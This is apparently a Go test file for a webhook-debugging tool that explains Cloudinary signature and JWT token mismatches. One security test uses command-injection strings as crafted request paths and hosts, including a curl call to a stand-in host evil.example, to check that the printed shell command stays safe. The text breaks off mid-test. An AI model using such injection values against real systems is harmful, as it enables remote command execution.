package main

import (
	"bytes"
	"compress/gzip"
	"crypto"
	"crypto/hmac"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/cloudinaryhook/cloudinaryhook"
	"github.com/cloudinaryhook/cloudinaryhook/cloudinaryhooktest"
	"github.com/cloudinaryhook/cloudinaryhook/hidetoken"
	"github.com/cloudinaryhook/cloudinaryhook/internal/secrets"
)

const (
	testSecret = cloudinaryhooktest.DefaultSecret
	testKey    = cloudinaryhooktest.DefaultKey
	// JavaScript, Ruby and therefore Cloudinary write compact JSON and escape
	// nothing.
	testBody = `{"notification_type":"upload","public_id":"folder/café & <b>","tags":["a","b"],"version":1507784418,"asset":{"id":"7"},"error":null}`
)

// A sample is a request to a receiver. A test case changes it.
type sample struct {
	env          environment
	method, host string
	path, query  string
	timestamp    string
	header       http.Header
	body         string
}

func genuine(t *testing.T) *sample {
	s := &sample{
		env: testEnvironment(), method: http.MethodPost, host: "app.example", path: "/api/v1/cloudinary", timestamp: strconv.FormatInt(time.Now().Unix(), 10),
		header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}, body: testBody,
	}
	s.token(t, jwt.SigningMethodHS256, testKey, jwt.MapClaims{"album_id": "7", "exp": time.Now().Add(time.Hour).Unix()})
	s.sign(testSecret)
	return s
}

// sign signs the sample's current body, as Cloudinary would with this secret.
func (s *sample) sign(secret string) {
	s.signed(cloudinaryhook.Sign(crypto.SHA1, []byte(s.body), s.timestamp, secret))
}

func (s *sample) signed(signature string) {
	s.header.Set(cloudinaryhook.TimestampHeader, s.timestamp)
	s.header.Set(cloudinaryhook.SignatureHeader, signature)
}

func (s *sample) token(t *testing.T, method jwt.SigningMethod, key any, claims jwt.MapClaims) {
	token, err := jwt.NewWithClaims(method, claims).SignedString(key)
	if text, ok := key.(string); ok {
		token, err = jwt.NewWithClaims(method, claims).SignedString([]byte(text))
	}
	if err != nil {
		t.Fatal(err)
	}
	s.query = "token=" + token
}

// file returns the sample as raw HTTP.
func (s *sample) file() string {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s?%s HTTP/1.1\r\nHost: %s\r\n", s.method, s.path, s.query, s.host)
	_ = s.header.Write(&b)
	return b.String() + "\r\n" + s.body
}

func (s *sample) hmac(message, key string) string {
	mac := hmac.New(sha1.New, []byte(key))
	mac.Write([]byte(message))
	return hex.EncodeToString(mac.Sum(nil))
}

func base64Of(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// reencoded decodes the body and encodes it again, as some frameworks do.
func reencoded(body string, encode func(any) string) string {
	var value any
	if err := json.Unmarshal([]byte(body), &value); err != nil {
		panic(err)
	}
	return encode(value)
}

type explainCase struct {
	want   string // the ID of the first finding; "" if the request is accepted
	name   string
	change func(t *testing.T, s *sample)
	args   []string
}

func secretCases() []explainCase {
	withSecret := func(value string) func(*testing.T, *sample) {
		return func(_ *testing.T, s *sample) { s.env[secretVariable] = value }
	}
	return []explainCase{
		{"secret-missing", "no secret", withSecret(""), nil},
		{"secret-newline", "newline", withSecret(testSecret + "\n"), nil},
		{"secret-newline", "backslash n", withSecret(testSecret + `\n`), nil},
		{"secret-newline", "the sender's newline", func(_ *testing.T, s *sample) { s.sign(testSecret + "\n") }, nil},
		{"secret-space", "space", withSecret(" " + testSecret + "\t"), nil},
		{"secret-space", "byte order mark", withSecret("\ufeff" + testSecret), nil},
		{"secret-quotes", "double quotes", withSecret(`"` + testSecret + `"`), nil},
		{"secret-quotes", "single quotes and newline", withSecret("'" + testSecret + "'\n"), nil},
		{"secret-base64", "base64", withSecret(base64Of(testSecret)), nil},
		{"secret-base64", "base64 with a newline in it", withSecret(base64Of(testSecret + "\n")), nil},
		{"secret-hex", "hexadecimal", withSecret(hex.EncodeToString([]byte(testSecret))), nil},
		{"secret-percent", "percent", withSecret(url.PathEscape(testSecret)), nil},
		{"secret-percent", "percent and plus", withSecret(url.QueryEscape(testSecret)), nil},
		{"secret-more", "a whole URL", func(_ *testing.T, s *sample) {
			s.env[secretVariable] = "cloudinary://123:abcdefghij@demo"
			s.sign("abcdefghij")
		}, nil},
		{"secret-more", "a list", withSecret("older," + testSecret), nil},
		{"secret-more", "name and value", withSecret(secretVariable + "=" + testSecret), nil},
		{"secret-swapped", "key and secret swapped", func(_ *testing.T, s *sample) {
			s.env[secretVariable], s.env[apiKeyVariable] = "123456789012345", testSecret
		}, nil},
		{"secret-swapped", "the token key signs", func(_ *testing.T, s *sample) { s.sign(testKey) }, nil},
		{"secret-odd", "both sides with quotes", func(_ *testing.T, s *sample) {
			s.env[secretVariable] = `"quoted"`
			s.sign(`"quoted"`)
		}, nil},
		{"secret-odd", "quotes, and another secret", withSecret(`"something else"`), nil},
		{"secret-odd", "the previous one has quotes", func(_ *testing.T, s *sample) {
			s.env[secretVariable+previousSuffix] = `"older"`
		}, nil},
		{"", "the previous secret", func(_ *testing.T, s *sample) {
			s.env[secretVariable], s.env[secretVariable+previousSuffix] = "a new secret", testSecret
		}, nil},
	}
}

func bodyCases() []explainCase {
	came := func(change func(string) string) func(*testing.T, *sample) {
		return func(_ *testing.T, s *sample) { s.body = change(s.body) }
	}
	// The sender has signed the changed body, and the receiver gets the unchanged
	// one.
	was := func(change func(string) string) func(*testing.T, *sample) {
		return func(_ *testing.T, s *sample) {
			body := s.body
			s.body = change(body)
			s.sign(testSecret)
			s.body = body
		}
	}
	signed := func(body string) func(*testing.T, *sample) {
		return func(_ *testing.T, s *sample) {
			s.body = body
			s.sign(testSecret)
		}
	}
	add := func(before, after string) func(string) string {
		return func(body string) string { return before + body + after }
	}
	replace := func(old, with string) func(string) string {
		return func(body string) string { return strings.ReplaceAll(body, old, with) }
	}
	indented := func(indent string) func(string) string {
		return func(body string) string {
			var b bytes.Buffer
			_ = json.Indent(&b, []byte(body), "", indent)
			return b.String()
		}
	}
	lines := func(_ *testing.T, s *sample) {
		s.body = indented("  ")(s.body)
		s.sign(testSecret)
		s.body = strings.ReplaceAll(s.body, "\n", "\r\n")
	}
	python := func(body string) string { // json.dumps(json.loads(body))
		return strings.NewReplacer(`":`, `": `, `,"`, `, "`, "é", `\u00e9`).Replace(body)
	}
	return []explainCase{
		{"body-newline", "a newline added", came(add("", "\n")), nil},
		{"body-newline", "a newline taken off", was(add("", "\n")), nil},
		{"body-bom", "a byte order mark", came(add("\ufeff", "")), nil},
		{"body-bom", "a byte order mark taken off", was(add("\ufeff", "")), nil},
		{"body-crlf", "CRLF for LF", lines, nil},
		{"body-space", "white space", came(add("  ", " ")), nil},
		{"body-whitespace", "JavaScript: JSON.stringify(body, null, 2)", came(indented("  ")), nil},
		{"body-whitespace", "PHP: JSON_PRETTY_PRINT, else unescaped", came(indented("    ")), nil},
		{"body-whitespace", "compacted", was(indented("  ")), nil},
		{"body-whitespace", "compacted, with the newline of a file", was(func(b string) string { return indented("\t")(b) + "\n" }), nil},
		{"body-whitespace", "Python: ensure_ascii=False", came(func(b string) string { return strings.ReplaceAll(python(b), `\u00e9`, "é") }), nil},
		{"body-slashes", "slashes escaped", came(replace("/", `\/`)), nil},
		{"body-slashes", "slashes unescaped", was(replace("/", `\/`)), nil},
		{"body-unicode", "Unicode escaped", came(replace("é", `\u00e9`)), nil},
		{"body-unicode", "Unicode unescaped, of capital digits", was(replace("é", `\u00E9`)), nil},
		{"body-html", "Go: <, > and & escaped", came(func(b string) string {
			return strings.NewReplacer("<", `\u003c`, ">", `\u003e`, "&", `\u0026`).Replace(b)
		}), nil},
		{"body-reencoded", "PHP: json_encode", came(func(b string) string {
			return strings.NewReplacer("/", `\/`, "é", `\u00e9`).Replace(b)
		}), nil},
		{"body-reencoded", "Python: json.dumps", came(python), nil},
		{"body-gzip", "compressed on the way", came(func(b string) string {
			var z bytes.Buffer
			w := gzip.NewWriter(&z)
			_, _ = w.Write([]byte(b))
			_ = w.Close()
			return z.String()
		}), nil},
		{"body-latin1", "UTF-8 taken for Latin-1", came(replace("é", "Ã©")), nil},
		{"body-latin1", "Latin-1 made UTF-8", was(replace("é", "\xe9")), nil},
		{"body-latin1", "UTF-8 made Latin-1", came(replace("é", "\xe9")), nil},
		{"body-base64", "base64", came(base64Of), nil},
		{"body-percent", "percent", came(url.QueryEscape), nil},
		{"body-percent", "form", came(func(b string) string { return "payload=" + url.QueryEscape(b) }), nil},
		{"body-malformed", "a template's text", signed("hello"), nil},
		{"body-malformed", "a name twice", signed(`{"public_id":"a","public_id":"b"}`), nil},
		{"body-large", "5 MB", signed(`{"a":"` + strings.Repeat("a", 5<<20) + `"}`), nil},
		{"body-none", "nothing signed", was(func(string) string { return "" }), nil},
		{"body-empty", "eaten", came(func(string) string { return "" }), nil},
		{"body-cut", "cut off", came(func(b string) string { return b[:60] }), nil},
		{"body-sorted", "Go: map[string]any", came(func(b string) string {
			return reencoded(b, func(v any) string { out, _ := json.Marshal(v); return string(out) })
		}), nil},
		{"body-encoding", "decompressed on the way", func(_ *testing.T, s *sample) {
			s.sign("over other bytes")
			s.header.Set("Content-Encoding", "gzip")
		}, nil},
		{"body-replaced", "replacement characters", func(_ *testing.T, s *sample) {
			s.body = strings.ReplaceAll(s.body, "é", "\xe9")
			s.sign(testSecret)
			s.body = strings.ToValidUTF8(s.body, "\ufffd")
		}, nil},
		{"body-numbers", "numbers as floating point", came(replace("1507784418", "1.507784418e+09")), nil},
		{"other-api-key", "a second API key", func(_ *testing.T, s *sample) {
			s.env[apiKeyVariable] = "111111111111111"
			s.body = strings.Replace(s.body, "{", `{"signature_key":"222222222222222",`, 1)
			s.sign("the other key's")
		}, nil},
		{"unknown", "another secret", func(_ *testing.T, s *sample) { s.sign("another") }, nil},
	}
}

func digestCases() []explainCase {
	signed := func(signature func(s *sample) string) func(*testing.T, *sample) {
		return func(_ *testing.T, s *sample) { s.signed(signature(s)) }
	}
	at := func(timestamp string) func(*testing.T, *sample) {
		return func(_ *testing.T, s *sample) {
			s.timestamp = timestamp
			s.sign(testSecret)
		}
	}
	ago := func(d time.Duration) string { return strconv.FormatInt(time.Now().Add(-d).Unix(), 10) }
	milliseconds := strconv.FormatInt(time.Now().UnixMilli(), 10)
	without := func(names ...string) func(*testing.T, *sample) {
		return func(_ *testing.T, s *sample) {
			for _, name := range names {
				s.header.Del(name)
			}
		}
	}
	sha := func(s *sample) []byte {
		sum := sha1.Sum([]byte(s.body + s.timestamp + testSecret))
		return sum[:]
	}
	return []explainCase{
		{"digest-hmac", "HMAC of body and timestamp", signed(func(s *sample) string { return s.hmac(s.body+s.timestamp, testSecret) }), nil},
		{"digest-hmac", "HMAC-SHA256 of the body", signed(func(s *sample) string {
			mac := hmac.New(sha256.New, []byte(testSecret))
			mac.Write([]byte(s.body))
			return hex.EncodeToString(mac.Sum(nil))
		}), nil},
		{"digest-no-timestamp", "no timestamp in the digest", signed(func(s *sample) string { return cloudinaryhook.Sign(crypto.SHA1, []byte(s.body), "", testSecret) }), nil},
		{"digest-timestamp", "seconds sent, milliseconds signed", signed(func(s *sample) string {
			return cloudinaryhook.Sign(crypto.SHA1, []byte(s.body), s.timestamp+"000", testSecret)
		}), nil},
		{"digest-order", "timestamp before body", signed(func(s *sample) string {
			return cloudinaryhook.Sign(crypto.SHA1, []byte(s.timestamp), s.body, testSecret)
		}), nil},
		{"digest-algorithm", "MD5", signed(func(s *sample) string {
			sum := md5.Sum([]byte(s.body + s.timestamp + testSecret))
			return hex.EncodeToString(sum[:])
		}), nil},
		{"digest-base64", "base64", signed(func(s *sample) string { return base64.StdEncoding.EncodeToString(sha(s)) }), nil},
		{"digest-prefix", "sha1=", signed(func(s *sample) string { return "sha1=" + hex.EncodeToString(sha(s)) }), nil},
		{"signature-length", "cut", signed(func(s *sample) string { return hex.EncodeToString(sha(s))[:39] }), nil},
		{"sha1-refused", "SHA-1 where SHA-256 is required", func(*testing.T, *sample) {}, []string{"-sha256-only"}},
		{"timestamp-missing", "no timestamp", without(cloudinaryhook.TimestampHeader), nil},
		{"timestamp-milliseconds", "milliseconds", at(milliseconds), nil},
		{"timestamp-odd", "leading zero", at("0" + ago(0)), nil},
		{"stale-now", "three hours old", at(ago(3 * time.Hour)), nil},
		{"stale", "three hours old when it came", func(_ *testing.T, s *sample) {
			s.timestamp = ago(30 * time.Hour)
			s.sign(testSecret)
			s.header.Set("Date", time.Now().Add(-27*time.Hour).UTC().Format(http.TimeFormat))
		}, []string{"-tokenless"}},
		{"", "three hours old, and recorded then", at(ago(3 * time.Hour)), []string{"-at", time.Now().Add(-3 * time.Hour).Format(time.RFC3339)}},
		{"", "three hours are allowed", at(ago(3 * time.Hour)), []string{"-max-age", "4h"}},
		{"future", "of the future", at(ago(-time.Hour)), nil},
		{"signature-missing", "no headers", without(cloudinaryhook.SignatureHeader, cloudinaryhook.TimestampHeader), nil},
		{"signature-dropped", "v2, and its header dropped", without(cloudinaryhook.SignatureHeader), nil},
		{"signature-v2", "v2 only", func(_ *testing.T, s *sample) {
			s.header.Del(cloudinaryhook.SignatureHeader)
			s.header.Set(cloudinaryhook.SignatureV2Header, "c2lnbmF0dXJl")
		}, nil},
		{"signature-repeated", "twice", func(_ *testing.T, s *sample) {
			s.header.Add(cloudinaryhook.SignatureHeader, s.header.Get(cloudinaryhook.SignatureHeader))
		}, nil},
		{"method", "GET", func(_ *testing.T, s *sample) { s.method = http.MethodGet }, nil},
		{"path-slashes", "two slashes", func(_ *testing.T, s *sample) { s.path = "//api/v1/cloudinary" }, nil},
	}
}

func tokenCases() []explainCase {
	query := func(change func(string) string) func(*testing.T, *sample) {
		return func(_ *testing.T, s *sample) { s.query = change(s.query) }
	}
	claims := func(c jwt.MapClaims) func(*testing.T, *sample) {
		return func(t *testing.T, s *sample) { s.token(t, jwt.SigningMethodHS256, testKey, c) }
	}
	withKey := func(value string) func(*testing.T, *sample) {
		return func(_ *testing.T, s *sample) { s.env[keyVariable] = value }
	}
	hour := time.Now().Add(time.Hour)
	return []explainCase{
		{"key-missing", "no key", withKey(""), nil},
		{"", "no key, and Tokenless", withKey(""), []string{"-tokenless"}},
		{"key-newline", "newline", withKey(testKey + "\n"), nil},
		{"key-quotes", "quotes", withKey(`"` + testKey + `"`), nil},
		{"key-space", "space", withKey(testKey + " "), nil},
		{"key-base64", "base64", withKey(base64Of(testKey)), nil},
		{"key-base64", "decoded where tokens are made", func(t *testing.T, s *sample) {
			s.env[keyVariable] = base64Of("0123456789abcdef0123456789abcdef")
			s.token(t, jwt.SigningMethodHS256, "0123456789abcdef0123456789abcdef", jwt.MapClaims{})
		}, nil},
		{"key-hex", "hexadecimal", withKey(hex.EncodeToString([]byte(testKey))), nil},
		{"key-percent", "percent", withKey(url.QueryEscape(testKey)), nil},
		{"key-more", "name and value", withKey(keyVariable + "=" + testKey), nil},
		{"key-other", "another key", withKey(strings.Repeat("k", 32)), nil},
		{"key-other", "the API secret", func(t *testing.T, s *sample) {
			s.token(t, jwt.SigningMethodHS256, testSecret, jwt.MapClaims{})
		}, nil},
		{"key-odd", "the previous one has quotes", func(_ *testing.T, s *sample) {
			s.env[keyVariable+previousSuffix] = `"` + testKey + `"`
		}, nil},
		{"key-short", "the previous one is short", func(_ *testing.T, s *sample) {
			s.env[keyVariable+previousSuffix] = "a short key"
		}, nil},
		{"", "the previous key", func(_ *testing.T, s *sample) {
			s.env[keyVariable], s.env[keyVariable+previousSuffix] = strings.Repeat("k", 32), testKey
		}, nil},
		{"key-short", "short", func(t *testing.T, s *sample) {
			s.env[keyVariable] = "a short key"
			s.token(t, jwt.SigningMethodHS256, "a short key", jwt.MapClaims{})
		}, nil},
		{"key-odd", "both sides with quotes", func(t *testing.T, s *sample) {
			s.env[keyVariable] = `"` + testKey + `"`
			s.token(t, jwt.SigningMethodHS256, `"`+testKey+`"`, jwt.MapClaims{})
		}, nil},
		{"token-missing", "no token", query(func(string) string { return "a=1" }), nil},
		{"token-amp", "&amp;", query(func(q string) string { return "a=1&amp;" + q }), nil},
		{"token-question", "two question marks", query(func(q string) string { return "a=1?" + q }), nil},
		{"token-encoded", "the parameter encoded", query(url.QueryEscape), nil},
		{"token-encoded", "dots encoded twice", query(func(q string) string { return strings.ReplaceAll(q, ".", "%252E") }), nil},
		{"token-encoded", "base64", query(func(q string) string { return "token=" + url.QueryEscape(base64Of(q[6:])) }), nil},
		{"token-repeated", "twice", query(func(q string) string { return q + "&" + q }), nil},
		{"token-quotes", "quotes", query(func(q string) string { return "token=%22" + q[6:] + "%22" }), nil},
		{"token-cut", "cut in its claims", query(func(q string) string { return q[:70] }), nil},
		{"token-cut", "cut in its signature", query(func(q string) string { return q[:len(q)-7] }), nil},
		{"token-long", "long", claims(jwt.MapClaims{"album_id": strings.Repeat("x", 9<<10)}), nil},
		{"token-not", "another thing", query(func(string) string { return "token=hello" }), nil},
		{"token-more", "a status after it", query(func(q string) string { return q + "%20200%20OK" }), nil},
		{"token-hidden", "by hidetoken", query(hidden), nil},
		{"token-hidden", "by hidetoken, in a malformed query", query(func(q string) string { return hidden("a=1?" + q) }), nil},
		{"token-hidden", "by hidetoken, in the name", query(func(q string) string { return hidden(url.QueryEscape(q)) }), nil},
		{"token-hidden", "by Rails", query(func(string) string { return "token=[FILTERED]" }), nil},
		{"token-hidden", "by stars", query(func(string) string { return "token=*****" }), nil},
		{"token-padding", "padding", query(func(q string) string { return q + "=" }), nil},
		{"token-algorithm", "HS512", func(t *testing.T, s *sample) { s.token(t, jwt.SigningMethodHS512, testKey, jwt.MapClaims{}) }, nil},
		{"token-algorithm", "none", func(t *testing.T, s *sample) {
			s.token(t, jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType, jwt.MapClaims{})
		}, nil},
		{"token-header", "crit", func(t *testing.T, s *sample) {
			token := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{})
			token.Header["crit"] = []string{"x"}
			signed, err := token.SignedString([]byte(testKey))
			if err != nil {
				t.Fatal(err)
			}
			s.query = "token=" + signed
		}, nil},
		{"token-expired", "expired", claims(jwt.MapClaims{"exp": time.Now().Add(-time.Hour).Unix()}), nil},
		{"token-early", "not yet valid", claims(jwt.MapClaims{"nbf": hour.Unix()}), nil},
		{"token-milliseconds", "milliseconds", claims(jwt.MapClaims{"exp": hour.UnixMilli()}), nil},
		{"token-kind", "a number for text", claims(jwt.MapClaims{"sub": 42}), nil},
		{"token-endless", "no exp", claims(jwt.MapClaims{"album_id": "7"}), []string{"-require-expiry"}},
		{"token-claims", "no user", func(*testing.T, *sample) {}, []string{"-require", "album_id,user_id"}},
		{"token-claims", "empty", claims(jwt.MapClaims{"album_id": ""}), []string{"-require", "album_id"}},
		{"token-issuer", "issuer", claims(jwt.MapClaims{"iss": "another"}), []string{"-issuer", "app"}},
		{"token-audience", "audience", claims(jwt.MapClaims{"aud": []string{"another"}}), []string{"-audience", "webhooks"}},
		{"token-malformed", "a name twice", func(t *testing.T, s *sample) {
			part := func(text string) string { return base64.RawURLEncoding.EncodeToString([]byte(text)) }
			signed := part(`{"alg":"HS256"}`) + "." + part(`{"album_id":"7","album_id":"8"}`)
			mac := hmac.New(sha256.New, []byte(testKey))
			mac.Write([]byte(signed))
			s.query = "token=" + signed + "." + part(string(mac.Sum(nil)))
		}, nil},
		{"", "genuine", func(*testing.T, *sample) {}, []string{"-require", "album_id"}},
	}
}

// hidden returns a query as a handler sees it without hidetoken.ShowTo.
func hidden(query string) (seen string) {
	hidetoken.From(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		seen = r.URL.RawQuery
	})).ServeHTTP(httptest.NewRecorder(), httptest.NewRequest(http.MethodPost, "/?"+query, nil))
	return seen
}

var shownID = regexp.MustCompile(`(?m)^\d+\. ([a-z0-9-]+): `)

// TestExplain: explain names the cause of each case and no other one. If no
// signature fits the body, it may list more causes.
func TestExplain(t *testing.T) {
	seen := make(map[string]bool)
	for _, tt := range slices.Concat(secretCases(), bodyCases(), digestCases(), tokenCases()) {
		t.Run(tt.want+": "+tt.name, func(t *testing.T) {
			seen[tt.want] = true
			s := genuine(t)
			tt.change(t, s)
			got, status := s.env.run(t, s.file(), append([]string{"explain", "-request", "-"}, tt.args...)...)
			first := ""
			ids := shownID.FindAllStringSubmatch(got, -1)
			if len(ids) > 0 {
				first = ids[0][1]
			}
			if len(ids) == 2 && ids[1][1] != "unknown" || len(ids) > 2 {
				t.Errorf("got %d findings, want only the one fault:\n%s", len(ids), got)
			}
			wantStatus := 1
			if tt.want == "" || tt.want == "path-slashes" { // a hint: the package itself does not look at the path
				wantStatus = 0
			}
			if first != tt.want || status != wantStatus {
				t.Errorf("got %q and %d, want %q and %d:\n%s", first, status, tt.want, wantStatus, got)
			}
			if accepted := acceptedByHandler(t, s, tt.args); accepted != (status == 0) {
				t.Errorf("a handler accepts it: %t, and explain got %d:\n%s", accepted, status, got)
			}
			checkScreen(t, got)
			for _, secret := range []string{"eyJ", testSecret, testKey} {
				if strings.Contains(got, secret) {
					t.Errorf("the output holds %q:\n%s", secret, got)
				}
			}
		})
	}
	for _, c := range causes {
		if !seen[c.id] {
			t.Errorf("no case has the cause %s", c.id)
		}
	}
}

// acceptedByHandler sends the request to a real handler with the same secrets,
// keys and settings.
func acceptedByHandler(t *testing.T, s *sample, args []string) bool {
	t.Helper()
	var f explainFlags
	if err := f.flags().Parse(args); err != nil {
		t.Fatal(err)
	}
	if err := f.x.readEnvironment(&process{getenv: func(name string) string { return s.env[name] }}); err != nil {
		t.Fatal(err)
	}
	r, err := readRecording([]byte(s.file()))
	if err != nil {
		t.Fatal(err)
	}
	if f.x.at, err = f.time(r); err != nil {
		t.Fatal(err)
	}
	config := cloudinaryhook.Config{
		Signature: f.x.verifier(), Tokenless: f.x.tokenless,
		Processor: &cloudinaryhook.Processor{Store: new(cloudinaryhooktest.MemoryStore), Deferred: true},
	}
	if !config.Tokenless {
		config.Token = f.x.tokenVerifier()
	}
	handler, err := cloudinaryhook.NewHandler(config)
	if err != nil {
		return false
	}
	r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(r.body)), int64(len(r.body))
	w := httptest.NewRecorder()
	handler.ServeHTTP(w, r.Request)
	return w.Code == http.StatusCreated
}

// checkScreen checks that the output fits on a terminal of 24 lines of 80
// characters.
func checkScreen(t *testing.T, output string) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(output, "\n"), "\n")
	if len(lines) > 24 {
		t.Errorf("got %d lines, want a screen of 24:\n%s", len(lines), output)
	}
	for _, line := range lines {
		if n := len([]rune(line)); n > 80 {
			t.Errorf("got a line of %d characters, want 80 at most: %s", n, line)
		}
	}
}

// TestExplainSeveralCauses: explain shows the causes of signature and token
// together on one screen.
func TestExplainSeveralCauses(t *testing.T) {
	s := genuine(t)
	s.env[secretVariable] = testSecret + "\n"
	s.env[keyVariable] = `"` + testKey + `"`
	s.header.Set("Date", time.Now().UTC().Format(http.TimeFormat))
	s.timestamp = "1507784418"
	s.sign(testSecret)
	s.token(t, jwt.SigningMethodHS256, testKey, jwt.MapClaims{"exp": 1507784418})
	got, _ := s.env.run(t, s.file(), "explain", "-request", "-", "-require", "album_id", "-all")
	for _, id := range []string{"secret-newline", "stale", "token-expired", "token-claims", "key-quotes"} {
		if !strings.Contains(got, " "+id+": ") {
			t.Errorf("got no %s:\n%s", id, got)
		}
	}
	got, _ = s.env.run(t, s.file(), "explain", "-request", "-", "-require", "album_id")
	checkScreen(t, got)
	if !strings.Contains(got, "secret-newline: ") || !strings.Contains(got, "Less likely: ") {
		t.Errorf("got %s, want the likeliest, and the names of the others", got)
	}
}

// TestExplainFitsAScreen: the output fits even with as many causes as possible.
func TestExplainFitsAScreen(t *testing.T) {
	s := genuine(t)
	s.env[secretVariable+previousSuffix] = `"something else"`
	s.env[apiKeyVariable] = "111111111111111"
	s.header.Set("Content-Encoding", "gzip")
	s.header.Set("Content-Length", "999")
	s.path, s.timestamp = "//hook", "1507784418"
	s.body = `{"a":1.5e+09,"b":"` + "\ufffd" + `","c":1,"d":1,"signature_key":"222222222222222"}`
	s.sign("another")
	s.token(t, jwt.SigningMethodHS512, strings.Repeat("k", 64), jwt.MapClaims{"exp": 1, "sub": 7, "iss": "another"})
	got, _ := s.env.run(t, s.file(), "explain", "-request", "-", "-require", "album_id", "-issuer", "app")
	checkScreen(t, got)
	if n := len(shownID.FindAllString(got, -1)); n != 2 || !strings.Contains(got, "cloudinaryhook send") {
		t.Errorf("got %d findings, want 2, the names of the others, and how to tell:\n%s", n, got)
	}
	got, _ = s.env.run(t, s.file(), "explain", "-request", "-", "-require", "album_id", "-issuer", "app", "-all")
	if n := len(shownID.FindAllString(got, -1)); n < 12 {
		t.Errorf("-all got %d findings, want 12 at least:\n%s", n, got)
	}
}

// TestExplainUnknown: if explain finds no cause, it says which causes are left
// and how to tell them apart.
func TestExplainUnknown(t *testing.T) {
	s := genuine(t)
	s.sign("another")
	got, _ := s.env.run(t, s.file(), "explain", "-request", "-")
	for _, says := range []string{"cloudinaryhook send -url 'https://app.example/api/v1/cloudinary' upload", "wrong secret", "changes bodies"} {
		if !strings.Contains(strings.Join(strings.Fields(got), " "), says) {
			t.Errorf("got %s, want it to say %q", got, says)
		}
	}
}

// TestExplainPrintsNoTextThatIsDangerous: users paste the command that explain
// prints into a shell, and anybody can send the request that it is made from.
func TestExplainPrintsNoTextThatIsDangerous(t *testing.T) {
	token := strings.TrimPrefix(genuine(t).query, "token=")
	tests := []struct {
		name   string
		change func(s *sample)
	}{
		{"a command in the path", func(s *sample) { s.path = "/hook;id;$(curl$IFS'evil.example/x')&" }},
		{"a quote in the path", func(s *sample) { s.path = "/hook';id;'" }},
		{"a token in the path", func(s *sample) { s.path = "/hook/" + token }},
		{"the query in the path", func(s *sample) { s.path = "/hook%3F" + s.query }},
		{"the query in the path, encoded", func(s *sample) { s.path = "/hook%3F" + url.QueryEscape(s.query) }},
		{"a long path", func(s *sample) { s.path = "/" + strings.Repeat("x", 2000) }},
		{"a command for a host", func(s *sample) { s.host = "app.example;id;'" }},
		{"a token for a host", func(s *sample) { s.host = token }},
		{"a token for a timestamp", func(s *sample) { s.header.Set(cloudinaryhook.TimestampHeader, token) }},
		{"a token for an encoding", func(s *sample) { s.header.Set("Content-Encoding", token) }},
		{"a token for an API key", func(s *sample) { s.body = `{"signature_key":"` + token + `"}` }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := genuine(t)
			s.sign("another")
			tt.change(s)
			got, _ := s.env.run(t, s.file(), "explain", "-request", "-", "-all")
			for _, text := range []string{"id;", "eyJ", "xxxx"} {
				if strings.Contains(got, text) {
					t.Errorf("got %s, want no %q in it", got, text)
				}
			}
			if want := "cloudinaryhook send -url "; !strings.Contains(got, want) {
				t.Errorf("got %s, want %q in it", got, want)
			}
		})
	}
}

// TestNoTokenIsRefused: only a Tokenless receiver accepts a request without a
// token, even if no key is set here.
func TestNoTokenIsRefused(t *testing.T) {
	s := genuine(t)
	s.query = "a=1"
	for _, key := range []string{testKey, ""} {
		s.env[keyVariable] = key
		got, status := s.env.run(t, s.file(), "explain", "-request", "-")
		if status != 1 || !strings.Contains(got, "token-missing: ") || strings.Contains(got, "key-missing: ") != (key == "") {
			t.Errorf("the key %q got %d and %s, want that the token is missing, and the key if it is", key, status, got)
		}
	}
	got, status := s.env.run(t, s.file(), "explain", "-request", "-", "-tokenless")
	if status != 0 || !strings.Contains(got, "Accepted: the signature is right") {
		t.Errorf("tokenless got %d and %s, want it accepted, and nothing said of a token", status, got)
	}
}

// TestScheme: a receiver on this machine has no TLS.
func TestScheme(t *testing.T) {
	for host, want := range map[string]string{
		"127.0.0.1:8182": "http", "127.0.0.1": "http", "localhost:80": "http", "[::1]:80": "http", "[::1]": "http",
		"app.example": "https", "app.example:8080": "https", "10.0.0.1": "https", "localhost.example": "https",
	} {
		if got := scheme(host); got != want {
			t.Errorf("%s got %s, want %s", host, got, want)
		}
	}
}

// TestSamplesPointNowhere: a sample body has nothing in it that looks like the
// cause of a mismatch. Its API keys are made up.
func TestSamplesPointNowhere(t *testing.T) {
	types, others := samples()
	for _, name := range append(types, others...) {
		for _, apiKey := range []string{"", "111111111111111"} {
			s, err := openSource(name, true, false, nil)
			if err != nil {
				t.Fatal(err)
			}
			body, err := s.next()
			if err != nil {
				t.Fatal(err)
			}
			x := examination{apiKey: apiKey}
			x.examineBody(nil, body)
			if got := ids(x.findings); len(got) > 0 {
				t.Errorf("%s, with the API key %q, got %q, want nothing", name, apiKey, got)
			}
		}
	}
}

// TestAcceptedNamesWhatIsUnknown: explain cannot know which claims the receiver
// requires.
func TestAcceptedNamesWhatIsUnknown(t *testing.T) {
	s := genuine(t)
	for _, tokenless := range []bool{false, true} {
		args := []string{"explain", "-request", "-"}
		if tokenless {
			args = append(args, "-tokenless")
		}
		got, status := s.env.run(t, s.file(), args...)
		says := strings.Contains(strings.Join(strings.Fields(got), " "), "only from the flags -require, -issuer and -audience")
		if status != 0 || says == tokenless {
			t.Errorf("tokenless: %t got %d and %s, which names the flags: %t", tokenless, status, got, says)
		}
	}
}

func TestExplainABody(t *testing.T) {
	s := genuine(t)
	file := writeFile(t, s.body+"\n")
	args := []string{"explain", "-body", file, "-timestamp", s.timestamp, "-signature", s.header.Get(cloudinaryhook.SignatureHeader)}
	if got, status := s.env.run(t, "", args...); status != 1 || !strings.Contains(got, "body-newline: ") {
		t.Errorf("got %d and %s, want the newline named", status, got)
	}
	file = writeFile(t, s.body)
	args[2] = file
	if got, status := s.env.run(t, "", args...); status != 0 {
